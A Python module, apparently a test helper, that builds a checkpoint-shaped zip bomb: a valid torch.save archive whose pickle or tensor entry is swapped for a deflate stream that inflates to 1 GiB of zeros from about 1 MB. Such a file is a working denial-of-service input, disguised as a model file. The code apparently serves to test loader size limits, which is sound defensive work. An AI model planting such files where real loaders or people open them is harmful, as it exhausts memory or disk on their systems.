"""Build a checkpoint-shaped zip bomb cheaply: a real ``torch.save`` archive whose tensor entry
is replaced by a deflated run of zeros (1 GiB by default) in about 1 MB on disk.

The deflate stream is assembled from identical full-flush blocks, so making the file costs
milliseconds and never holds the inflated data in memory. The archive is a valid zip
(``zipfile`` lists it and inflates the entry back to zeros), written by hand because
``zipfile`` cannot store data that is already compressed.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

_MIB = 1 << 20


def zeros_deflated(n_mib: int) -> tuple[bytes, int]:
    """(raw deflate stream, crc32) of ``n_mib`` MiB of zero bytes."""
    chunk = bytes(_MIB)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)  # identical for every chunk
    stream = block * n_mib + c.flush()
    crc = 0
    for _ in range(n_mib):
        crc = zlib.crc32(chunk, crc)
    return stream, crc


def _write_zip(path: Path, entries: list[tuple[str, bytes, int, int, int]]) -> None:
    """``entries``: (name, data as stored, method, uncompressed size, crc32)."""
    out = io.BytesIO()
    central = []
    for name, data, method, size, crc in entries:
        offset = out.tell()
        raw = name.encode()
        out.write(
            struct.pack(
                "<IHHHHHIIIHH",
                0x04034B50,
                20,
                0,
                method,
                0,
                0x21,
                crc,
                len(data),
                size,
                len(raw),
                0,
            )
        )
        out.write(raw + data)
        central.append(
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0,
                method,
                0,
                0x21,
                crc,
                len(data),
                size,
                len(raw),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + raw
        )
    cd_start = out.tell()
    for c in central:
        out.write(c)
    cd_size = out.tell() - cd_start
    out.write(
        struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), cd_size, cd_start, 0)
    )
    path.write_bytes(out.getvalue())


def make_zip_bomb(path: Path, n_mib: int = 1024, entry: str = "data.pkl") -> str:
    """Write the bomb to ``path``: entry ``entry`` (``data.pkl``, the pickle torch always reads
    whole, or ``data/0``, a tensor) holds ``n_mib`` MiB of zeros. Returns its full name."""
    import torch

    buf = io.BytesIO()
    torch.save({"w": torch.zeros(4)}, buf)
    buf.seek(0)
    entries = []
    bomb = ""
    with zipfile.ZipFile(buf) as zf:
        for info in zf.infolist():
            data = zf.read(info)
            if info.filename.endswith("/" + entry):
                stream, crc = zeros_deflated(n_mib)
                entries.append((info.filename, stream, 8, n_mib * _MIB, crc))
                bomb = info.filename
            else:
                entries.append((info.filename, data, 0, len(data), zlib.crc32(data)))
    _write_zip(path, entries)
    return bomb
